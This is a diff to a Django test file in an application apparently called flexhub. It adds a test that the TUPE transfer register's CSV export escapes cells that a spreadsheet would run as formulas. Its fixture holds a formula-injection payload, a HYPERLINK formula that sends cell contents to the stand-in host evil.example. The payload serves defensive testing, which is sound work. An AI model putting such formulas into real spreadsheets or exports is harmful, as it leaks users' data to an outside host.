@@ -1,10 +1,11 @@
 """Every CSV flexhub writes goes through core.csvexport, so none can let a spreadsheet run a cell
 as a formula (issue 13). Cross-app: the audit log (core), invoices (billing), import rejects
-(directory)."""
+and the TUPE register (directory)."""
 
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import re
 from decimal import Decimal
@@ -18,6 +19,8 @@ from flexhub.billing.models import Invoice, InvoiceLine
 from flexhub.core.audit import Actor
 from flexhub.core.csvexport import cell_text, csv_text
 from flexhub.core.services import organisation_save
+from flexhub.directory.models import StaffMember
+from flexhub.directory.services import staff_import, tupe_transfer_many
 
 SRC = Path(__file__).resolve().parents[1] / "src" / "flexhub"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -99,3 +102,32 @@ def test_the_rejects_export_neutralises_the_rows_it_gives_back(world):
     rows = table(client.get(reverse("import-rejects", kwargs={"pk": response.context["staged"].pk})))
     assert rows[1][:2] == ["2", "email"]
     assert rows[1][3:7] == ["'" + FORMULA, "not-an-email", "'@SUM(1+1)", "'-2+3"]
+
+
+@pytest.mark.django_db
+def test_the_tupe_register_export_neutralises_names_and_notes(world):
+    text = io.StringIO()
+    lines = csv.writer(text)
+    lines.writerow(["name", "email", "unit", "site", "grade", "start_date", "leave_date", "predecessor"])
+    lines.writerow([FORMULA, "odd@mbra.gov.uk", "+Unit", "@Site", "", "", "", ""])
+    content = text.getvalue().encode()
+    staff_import(actor=Actor.for_cli(), organisation=world.orgs["MBRA"], open_file=lambda: io.BytesIO(content))
+    tupe_transfer_many(
+        actor=Actor.for_cli(),
+        member=world.orgs["MBRA"],
+        staff=[StaffMember.objects.get(email="odd@mbra.gov.uk")],
+        to_supplier=world.orgs["SUPA"],
+        transfer_date=dt.date(2021, 6, 1),
+        terms_protected=False,
+        note="-1 day's notice",
+    )
+    rows = table(login(world, "mbra-admin").get(reverse("tupe-csv"), {"supplier": "SUPA"}))
+    header = rows[0]
+    odd = next(dict(zip(header, row, strict=True)) for row in rows[1:] if row[1] == "odd@mbra.gov.uk")
+    assert (odd["person"], odd["unit"], odd["site"], odd["note"]) == (
+        "'" + FORMULA,
+        "'+Unit",
+        "'@Site",
+        "'-1 day's notice",
+    )
+    assert (odd["transfer_date"], odd["terms_protected"]) == ("2021-06-01", "false")
